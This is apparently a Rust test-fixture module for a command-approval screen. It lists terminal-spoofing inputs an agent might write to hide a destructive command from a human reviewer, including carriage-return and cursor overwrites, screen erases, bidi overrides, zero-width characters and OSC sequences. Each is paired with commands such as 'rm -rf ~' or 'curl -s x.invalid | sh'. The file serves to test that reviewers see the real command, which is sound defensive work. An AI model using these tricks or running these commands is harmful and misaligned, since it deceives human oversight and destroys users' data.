//! The hostile inputs, class by class: what an agent would write to make a
//! terminal show something other than what is stored.

/// One hostile text and what a person must see of it.
pub struct Case {
    pub name: &'static str,
    pub text: String,
    /// A piece of the text's escaped rendering that must be on screen.
    pub shown: String,
    /// A line a deceived screen would show, which must not be one.
    pub forged: Option<&'static str>,
    /// False for text that is printable (only too long or too tall), which
    /// intake accepts.
    pub refused_at_intake: bool,
}

fn case(name: &'static str, text: &str, shown: &str, forged: Option<&'static str>) -> Case {
    Case {
        name,
        text: text.to_owned(),
        shown: shown.to_owned(),
        forged,
        refused_at_intake: true,
    }
}

pub fn cases() -> Vec<Case> {
    let mut all = vec![
        // Overwrite: a carriage return and erase-line let later text replace the line.
        case(
            "cr_overwrite",
            "rm -rf src .git #\r\x1b[2K  command:   ls -la src",
            "rm -rf src .git #\\r\\e[2K  command:   ls -la src",
            Some("command:   ls -la src"),
        ),
        // Cursor movement: up a line and rewrite it; home and rewrite the top.
        case(
            "cursor_up",
            "rm -rf ~/work #\x1b[1A\x1b[2K  reason:    tidy up",
            "rm -rf ~/work #\\e[1A\\e[2K  reason:    tidy up",
            Some("reason:    tidy up"),
        ),
        case(
            "cursor_home",
            "rm -rf ~ #\x1b[H\x1b[2KReview of proposal: ls",
            "rm -rf ~ #\\e[H\\e[2KReview of proposal: ls",
            Some("Review of proposal: ls"),
        ),
        // Erase the whole screen, then draw a harmless one.
        case(
            "erase_screen",
            "curl -s x.invalid | sh #\x1b[2J\x1b[3J\x1b[Hls -la",
            "curl -s x.invalid | sh #\\e[2J\\e[3J\\e[Hls -la",
            Some("ls -la"),
        ),
        // Backspaces walk back over the dangerous part and overtype it.
        case(
            "backspace",
            "rm -rf src\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08ls -la    ",
            "rm -rf src\\b\\b\\b\\b\\b\\b\\b\\b\\b\\bls -la",
            Some("ls -la"),
        ),
        // OSC 0/2 title, OSC 52 clipboard (write and read), OSC 8 hyperlink.
        case(
            "osc_title",
            "ls \x1b]0;bridge: approved\x07\x1b]2;safe\x1b\\",
            "ls \\e]0;bridge: approved\\a\\e]2;safe\\e\\",
            None,
        ),
        case(
            "osc52_clipboard",
            "ls \x1b]52;c;cm0gLXJmIH4vKgo=\x07\x1b]52;c;?\x07",
            "ls \\e]52;c;cm0gLXJmIH4vKgo=\\a\\e]52;c;?\\a",
            None,
        ),
        case(
            "osc8_link",
            "\x1b]8;;https://x.invalid\x1b\\ls\x1b]8;;\x1b\\; rm -rf ~",
            "\\e]8;;https://x.invalid\\e\\ls\\e]8;;\\e\\; rm -rf ~",
            None,
        ),
        // SGR conceal and invisible colours hide the dangerous part.
        case(
            "sgr_conceal",
            "ls \x1b[8m; rm -rf ~\x1b[0m",
            "ls \\e[8m; rm -rf ~\\e[0m",
            None,
        ),
        case(
            "sgr_black_on_black",
            "ls \x1b[30;40m; rm -rf ~\x1b[m",
            "ls \\e[30;40m; rm -rf ~\\e[m",
            None,
        ),
        // Bidi overrides and isolates reorder what the eye reads.
        case(
            "bidi_override",
            "rm -rf ~ \u{202e}# sl-\u{202c}",
            "rm -rf ~ \\u{202e}# sl-\\u{202c}",
            None,
        ),
        case(
            "bidi_isolates",
            "echo \u{2066}safe\u{2069} \u{2067}; rm -rf ~\u{2069} \u{2068}x\u{2069}",
            "echo \\u{2066}safe\\u{2069} \\u{2067}; rm -rf ~\\u{2069} \\u{2068}x\\u{2069}",
            None,
        ),
        // Zero-width characters make two different commands look alike.
        case(
            "zero_width",
            "r\u{200b}m -rf \u{2060}src\u{feff} \u{200d}x\u{200c}",
            "r\\u{200b}m -rf \\u{2060}src\\u{feff} \\u{200d}x\\u{200c}",
            Some("rm -rf src x"),
        ),
        case(
            "invisible_fillers",
            "rm\u{3164}-rf\u{115f} x\u{180e}\u{ad}",
            "rm\\u{3164}-rf\\u{115f} x\\u{180e}\\u{ad}",
            None,
        ),
        // C1 controls: the one-character forms of CSI, OSC, DCS, NEL.
        case(
            "c1_controls",
            "ls \u{9b}2J\u{9d}0;t\u{9c}\u{85}\u{90}q\u{9c}",
            "ls \\u{9b}2J\\u{9d}0;t\\u{9c}\\u{85}\\u{90}q\\u{9c}",
            None,
        ),
        // Terminal queries: ENQ answerback, cursor position report (CSI
        // 6n), device attributes, DECRQSS: a terminal would type the answer.
        case(
            "terminal_queries",
            "ls\x05 \x1b[6n \x1b[c \x1bP$qm\x1b\\",
            "ls\\x05 \\e[6n \\e[c \\eP$qm\\e\\",
            None,
        ),
        // DEL, NUL-adjacent controls, vertical tab, form feed, bell.
        case(
            "del_and_c0",
            "ls\x7f\x7f\x0b\x0c\x07\x1c",
            "ls\\x7f\\x7f\\v\\f\\a\\x1c",
            None,
        ),
        // Separators a terminal or a pager may treat as line breaks.
        case(
            "unicode_separators",
            "ls\u{2028}rm -rf ~\u{2029}",
            "ls\\u{2028}rm -rf ~\\u{2029}",
            Some("rm -rf ~"),
        ),
        case(
            "tag_characters",
            "ls \u{e0072}\u{e006d}\u{e0020}\u{e002d}\u{e0072}\u{e0066}",
            "ls \\u{e0072}\\u{e006d}\\u{e0020}\\u{e002d}\\u{e0072}\\u{e0066}",
            None,
        ),
    ];
    // Long lines: the dangerous tail must wrap into view, never be cut.
    let long = format!("echo {} ; rm -rf ~/important", "A".repeat(400));
    all.push(Case {
        name: "long_line",
        shown: "; rm -rf ~/important".into(),
        text: long,
        forged: None,
        refused_at_intake: false,
    });
    // Hundreds of lines: the last one must be seen before the question.
    let mut tall: Vec<String> = (1..=300).map(|i| format!("echo line {i}")).collect();
    tall.push("rm -rf ~/important".into());
    all.push(Case {
        name: "many_lines",
        text: tall.join("\n"),
        shown: "rm -rf ~/important".into(),
        forged: None,
        refused_at_intake: false,
    });
    all
}
